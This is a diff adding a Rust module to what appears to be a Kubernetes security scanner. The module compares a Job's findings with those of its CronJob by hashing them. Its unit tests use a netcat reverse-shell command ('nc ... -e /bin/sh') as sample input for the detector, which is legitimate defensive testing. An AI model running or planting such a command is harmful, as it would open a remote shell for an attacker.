@@ -1,0 +1,105 @@
+//! Whether a Job is a run of its CronJob and nothing more: then the CronJob's report speaks for it.
+//!
+//! An ownerReference proves nothing, since whoever creates a Job writes it. What a Job does is compared instead: a Job
+//! all of whose findings are among those of its CronJob adds nothing that its reader does not know.
+
+use std::collections::BTreeMap;
+
+use sha2::{Digest as _, Sha256};
+
+use crate::assess::Assessment;
+use crate::detect::Hit;
+
+/// The findings of a workload, for comparing a Job with its CronJob.
+///
+/// Of each finding there is a hash of 128 bits: long enough that nobody can craft a finding that passes for another.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct FindingSet {
+    hashes: Box<[u128]>,
+    /// By rule, how many hits there were, where there were more than are kept.
+    uncounted: Box<[(&'static str, usize)]>,
+}
+
+impl FindingSet {
+    /// The findings of an assessment.
+    pub fn of(assessment: &Assessment) -> Self {
+        let mut hashes: Vec<u128> = assessment
+            .findings
+            .by_rule()
+            .flat_map(|(rule, hits)| hits.iter().map(move |hit| hash(rule.id, hit)))
+            .collect();
+        hashes.sort_unstable();
+        hashes.dedup();
+        let uncounted: Vec<_> = assessment
+            .findings
+            .totals()
+            .filter(|(rule, total)| {
+                assessment.findings.by_rule().any(|(kept, hits)| kept == *rule && hits.len() < *total)
+            })
+            .map(|(rule, total)| (rule.id, total))
+            .collect();
+        Self { hashes: hashes.into(), uncounted: uncounted.into() }
+    }
+
+    /// Whether each finding here is among those of `other`.
+    pub fn is_within(&self, other: &Self) -> bool {
+        let totals: BTreeMap<_, _> = other.uncounted.iter().copied().collect();
+        self.hashes.iter().all(|hash| other.hashes.binary_search(hash).is_ok())
+            && self.uncounted.iter().all(|(rule, total)| totals.get(rule).is_some_and(|most| total <= most))
+    }
+
+    /// How many bytes it takes besides itself.
+    pub fn heap_bytes(&self) -> usize {
+        size_of_val(&*self.hashes) + size_of_val(&*self.uncounted)
+    }
+}
+
+/// The same for a finding in a Job and in the template of a CronJob.
+fn hash(rule: &str, hit: &Hit) -> u128 {
+    let path = hit.path.strip_prefix("spec.jobTemplate.").unwrap_or(&hit.path);
+    let container = hit.container.as_ref().map_or("", |name| name.as_str());
+    let mut sha = Sha256::new();
+    for part in [rule, container, path, hit.evidence.as_str()] {
+        sha.update(part.len().to_le_bytes());
+        sha.update(part);
+    }
+    sha.finalize().iter().take(16).fold(0, |hash, byte| hash << 8 | u128::from(*byte))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::assess::assess;
+    use crate::workload::Kind;
+    use crate::workload::decode::from_json;
+
+    fn set(kind: Kind, command: &str, image: &str) -> FindingSet {
+        let pod = format!(
+            r#"{{"containers":[{{"name":"c","image":"{image}","command":["sh","-c","{command}"]}}]}}"#
+        );
+        let json = match kind {
+            Kind::Job => format!(r#"{{"metadata":{{"name":"x-1"}},"spec":{{"template":{{"spec":{pod}}}}}}}"#),
+            Kind::CronJob => format!(
+                r#"{{"metadata":{{"name":"x"}},"spec":{{"schedule":"@daily","jobTemplate":{{"spec":{{"template":{{"spec":{pod}}}}}}}}}}}"#
+            ),
+        };
+        FindingSet::of(&assess(kind, &from_json(json.as_bytes()).unwrap()))
+    }
+
+    #[test]
+    fn a_run_is_within_its_cron_job() {
+        let command = "nc 192.0.2.10 4444 -e /bin/sh";
+        let (job, cron) = (set(Kind::Job, command, "busybox"), set(Kind::CronJob, command, "busybox"));
+        assert!(!job.hashes.is_empty());
+        assert!(job.is_within(&cron));
+    }
+
+    #[test]
+    fn another_command_or_another_target_is_not() {
+        let cron = set(Kind::CronJob, "nc 192.0.2.10 4444 -e /bin/sh", "busybox");
+        assert!(!set(Kind::Job, "nc 192.0.2.11 4444 -e /bin/sh", "busybox").is_within(&cron));
+        let benign = set(Kind::CronJob, "backup", "registry.example.test/backup:1");
+        assert!(!set(Kind::Job, "nc 192.0.2.10 4444 -e /bin/sh", "busybox").is_within(&benign));
+        assert!(set(Kind::Job, "backup", "registry.example.test/backup:1").is_within(&cron));
+    }
+}
